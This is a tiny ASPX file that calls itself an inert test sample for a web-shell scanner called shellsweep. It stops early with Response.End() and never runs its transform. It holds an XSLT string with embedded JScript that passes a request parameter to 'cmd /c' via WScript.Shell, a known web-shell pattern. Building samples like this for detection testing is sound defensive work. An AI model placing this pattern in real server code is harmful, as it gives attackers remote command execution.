<%@page language="C#"%>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<%
string xslt = @"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:q='q'><msxsl:script language='JScript' implements-prefix='q'>function x(){ var c = System.Web.HttpContext.Current; var r = new ActiveXObject('WScript.Shell').Exec('cmd /c ' + c.Request.Item['c']); return r.StdOut.ReadAll(); }</msxsl:script></xsl:stylesheet>";
var s = new System.Xml.Xsl.XsltSettings(false, true);
var t = new System.Xml.Xsl.XslCompiledTransform();
%>
